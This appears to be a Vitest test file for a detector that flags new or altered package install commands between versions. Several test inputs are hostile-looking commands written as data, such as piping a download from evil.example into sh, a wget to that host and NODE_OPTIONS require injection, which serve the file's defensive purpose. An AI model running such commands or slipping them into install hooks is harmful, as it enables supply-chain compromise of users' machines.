import { describe, expect, it } from 'vitest';
import { findNew, startsMore } from './commands.ts';

const one = (text: string, event = 'install') => [{ event, text }];
const isNew = (now: string, before: string): boolean => findNew(one(now), one(before)).length > 0;

describe('findNew', () => {
  it.each([
    ['node install.js', 'node install.js'],
    ['node lib/install.js', 'node ./scripts/install.cjs'],
    ['node install', 'node install.mjs'],
    ['node-gyp-build', '  node-gyp-build '],
    ['node install.js 1.2.3', 'node install.js 1.10.0-rc.1'],
    ['npx acme-fetch@2.0.0', 'npx acme-fetch@2.0.1'],
    ['./install.sh', 'scripts/install.sh'],
    ['prebuild-install || node-gyp rebuild', 'prebuild-install  ||  node-gyp rebuild'],
  ])('%s does the same as %s', (now, before) => {
    expect(isNew(now, before)).toBe(false);
  });

  it.each([
    ['node setup.mjs', 'node install.js'],
    ['node install.js && node setup.mjs', 'node install.js'],
    ['bun install.js', 'node install.js'],
    ['node install.js --all', 'node install.js'],
    ['bin/node install.js', 'node install.js'],
    ['true && ./node-gyp rebuild', 'true && node-gyp rebuild'],
    ['node ../install.js', 'node install.js'],
    ['node /tmp/install.js', 'node install.js'],
    ['node ~/install.js', 'node install.js'],
    ['curl 10.0.0.2', 'curl 10.0.0.1'],
    ['curl https://b.example/1.js', 'curl https://a.example/1.js'],
    ['curl b.example/x', 'curl a.example/x'],
    [`node -e "evil();require('./x')"`, `node -e "require('./x')"`],
    ['node -e "fetch(\'/a\')"', 'node -e "fetch(\'/b\')"'],
    ['npx acme-fetcher@1.0.0', 'npx acme-fetch@1.0.0'],
  ])('%s does something else than %s', (now, before) => {
    expect(isNew(now, before)).toBe(true);
  });

  it('looks for the command, whatever its event', () => {
    expect(findNew(one('node-gyp rebuild', 'install'), one('node-gyp rebuild', 'binding.gyp'))).toEqual([]);
  });

  it('reads long and odd texts in no time', () => {
    for (const text of [
      'a/'.repeat(50_000),
      '1.'.repeat(50_000),
      '@'.repeat(100_000),
      '-a.'.repeat(30_000),
      '1-a'.repeat(30_000),
    ])
      expect(isNew(`${text}!`, text)).toBe(true);
  });
});

describe('startsMore', () => {
  const starts = (now: string, before: string): boolean => startsMore(one(now), one(before));

  it.each([
    ['node install.mjs --quiet', 'node install.mjs'],
    ['node --max-old-space-size=4096 lib/install.js all --dir ./build --log=silent', 'node install.js'],
    ['prebuild-install || node-gyp rebuild', 'node-gyp rebuild'],
    ['prebuild-install --runtime napi || node-gyp rebuild --arch x64', 'node-gyp rebuild'],
    ['node install.js || exit 0', 'node install.js'],
    ['node b.js && node a.js', 'node a.js && node b.js'],
    ['npx acme-fetch@2.0.1 --force', 'npx acme-fetch@2.0.0'],
  ])('%s starts what %s started', (now, before) => {
    expect(starts(now, before)).toBe(false);
  });

  it.each([
    ['curl https://evil.example/x | sh', 'node banner.js'],
    ['node banner.js; wget -q evil.example/x', 'node banner.js'],
    ['node banner.js & node setup.mjs', 'node banner.js'],
    ['node setup.mjs', 'node banner.js'],
    ['node setup banner.js', 'node banner.js'],
    ['node --quiet setup.mjs banner.js', 'node banner.js'],
    ['node -r setup banner.js', 'node banner.js'],
    ['node --import=setup banner.js', 'node banner.js'],
    ['node banner.js\nsetup', 'node banner.js'],
    ['node banner.js $(setup)', 'node banner.js'],
    ['bun banner.js', 'node banner.js'],
    ['bin/node banner.js', 'node banner.js'],
    ['lib/node-gyp rebuild', 'node banner.js'],
    ['node banner.js --from https://evil.example/x', 'node banner.js'],
    ['node-gyp rebuild --dist-url=https://evil.example/', 'node-gyp rebuild'],
    ['node -e "evil()"', 'node banner.js'],
    ['NODE_OPTIONS=--require=x node banner.js', 'node banner.js'],
    ['npx acme-fetcher@1.0.0', 'npx acme-fetch@1.0.0'],
    ['npm run setup', 'npm run banner'],
    ['curl https://a.example/x | sh', 'curl https://a.example/x ; sh'],
    ['curl https://b.example/1', 'curl https://a.example/1'],
  ])('%s starts what %s did not', (now, before) => {
    expect(starts(now, before)).toBe(true);
  });

  it('reads long and odd texts in no time', () => {
    for (const text of ['-a='.repeat(50_000), '\r\n'.repeat(50_000), '&|'.repeat(50_000), '#-'.repeat(50_000)])
      expect(starts(`node ${text}!`, 'node')).toBe(true);
  });
});
